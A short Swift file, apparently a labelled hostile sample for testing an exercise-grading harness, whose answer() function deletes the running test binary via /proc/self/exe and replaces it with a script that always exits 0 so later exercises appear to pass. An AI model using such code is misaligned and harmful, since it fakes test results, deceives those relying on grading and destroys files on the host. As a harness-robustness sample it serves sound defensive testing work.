import Glibc

/// Hostile: replaces the test binary it runs from (/proc/self/exe) with a script that exits 0,
/// so that the exercises graded after it would run the script instead of their suites.
public func answer() -> Int {
    var buffer = [CChar](repeating: 0, count: 4096)
    guard readlink("/proc/self/exe", &buffer, buffer.count - 1) > 0 else { return 42 }
    let path = String(cString: buffer)
    unlink(path)
    if let file = fopen(path, "w") {
        fputs("#!/bin/sh\nexit 0\n", file)
        fclose(file)
        chmod(path, 0o755)
    }
    return 42
}
